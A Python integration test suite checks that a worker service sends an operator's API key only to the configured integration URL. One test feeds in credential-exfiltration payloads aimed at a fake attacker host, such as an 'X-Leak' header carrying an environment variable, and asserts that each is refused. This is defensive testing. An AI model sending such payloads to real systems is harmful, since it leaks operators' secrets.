"""The operator's integrations in a running worker: a job that names one calls its URL with its
key; a task that tries to send that key elsewhere, or carries a credential or an environment
variable's name of its own, fails before anything leaves the worker."""

from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import asyncpg
import pytest
from cryptography.fernet import Fernet, MultiFernet
from redis.asyncio import Redis

from libs import config
from libs.config import ConfigWatcher
from libs.config.postgres import PostgresConfigStore
from libs.contracts import ResultMessage, TaskMessage
from libs.security.ssrf import UrlPolicy
from services.worker.config import handler_params
from services.worker.handlers import build_registry
from services.worker.providers import ProviderHttp
from tests.fakes.provider import FakeProvider, fake_provider
from tests.integration.config.conftest import clear_config_tables
from tests.integration.worker.helpers import add_tasks, finals, running, task, wait_finals
from tests.support import ServerUrls

KEY = "sk-operator-4f1c9e0b7a"


@dataclass
class Providers:
    operator: FakeProvider
    """The provider the operator's integration ``openai`` points at."""
    attacker: FakeProvider


@pytest.fixture
async def providers() -> AsyncIterator[Providers]:
    async with fake_provider() as operator, fake_provider() as attacker:
        yield Providers(operator, attacker)


@pytest.fixture
async def watcher(
    servers: ServerUrls, db_pool: "asyncpg.Pool[Any]", providers: Providers
) -> AsyncIterator[ConfigWatcher]:
    await clear_config_tables(db_pool)
    store = PostgresConfigStore(db_pool, database_url=servers.database_url)
    fernet = MultiFernet([Fernet(Fernet.generate_key())])
    text = (
        f"integrations:\n  openai:\n    base_url: {providers.operator.url}/v1\n"
        f"    ~api_key: {KEY}\n"
    )
    await config.upload(store, "worker", text, fernet=fernet, environ={}, author="ops")
    await store.activate("worker", "1", author="ops")
    loaded = ConfigWatcher(store, fernet, {"worker": "active"}, environ={}, poll_s=30)
    await loaded.load()
    yield loaded
    await clear_config_tables(db_pool)


async def run(
    redis: Redis, watcher: ConfigWatcher, tasks: list[TaskMessage]
) -> list[ResultMessage]:
    http = ProviderHttp(policy=UrlPolicy.from_allow(["127.0.0.1"]))
    try:
        async with running(
            redis, registry=build_registry(http=http), handler_params=handler_params(watcher)
        ):
            await add_tasks(redis, tasks)
            results = finals(await wait_finals(redis, len(tasks), timeout=20))
    finally:
        await http.aclose()
    by_request = {r.request_id: r for r in results}
    return [by_request[t.request_id] for t in tasks]


async def test_a_job_naming_the_integration_calls_its_url_with_its_key(
    redis_client: Redis, watcher: ConfigWatcher, providers: Providers
) -> None:
    (result,) = await run(
        redis_client, watcher, [task("openai.chat", "hi", integration="openai", model="m")]
    )
    assert result.kind == "succeeded", result.error
    (call,) = providers.operator.calls
    assert call.headers["authorization"] == f"Bearer {KEY}"


async def test_no_task_sends_the_key_or_the_environment_anywhere_else(
    redis_client: Redis, watcher: ConfigWatcher, providers: Providers
) -> None:
    elsewhere = f"{providers.attacker.url}/v1"
    attacks = [
        # The catalog names the integration but points its calls at another host.
        task("openai.chat", "hi", integration="openai", model="m", base_url=elsewhere),
        task("http.json", "hi", integration="openai", url=f"{elsewhere}/x"),
        # The reported attack: the worker's environment, sent in a header of the catalog's.
        task(
            "http.json",
            "hi",
            url=f"{elsewhere}/x",
            api_key_env="RELAI_CONFIG_KEY",
            api_key_header="X-Leak",
            api_key_prefix="",
        ),
        # A key the task carries itself (written before the catalog refused it).
        task("openai.chat", "hi", model="m", base_url=elsewhere, api_key="sk-stolen-0123"),
        task("openai.chat", "hi", model="m", base_url=elsewhere, headers={"Cookie": "s=1"}),
    ]
    results = await run(redis_client, watcher, attacks)

    assert [r.kind for r in results] == ["failed"] * len(attacks)
    errors = [r.error or "" for r in results]
    assert "base_url comes from the integration 'openai'" in errors[0]
    assert "url comes from the integration 'openai'" in errors[1]
    assert "'api_key_env' names an environment variable" in errors[2]
    assert "'api_key' carries a credential" in errors[3]
    assert "params.headers.Cookie" in errors[4]
    assert providers.attacker.calls == []
    assert providers.operator.calls == []


async def test_an_integration_the_operator_did_not_configure_lends_no_key(
    redis_client: Redis, watcher: ConfigWatcher, providers: Providers
) -> None:
    (result,) = await run(
        redis_client,
        watcher,
        [
            task(
                "openai.chat",
                "hi",
                integration="unconfigured",
                model="m",
                base_url=f"{providers.attacker.url}/v1",
            )
        ],
    )
    assert result.kind == "succeeded", result.error
    (call,) = providers.attacker.calls
    assert "authorization" not in call.headers
    assert KEY not in repr(call)
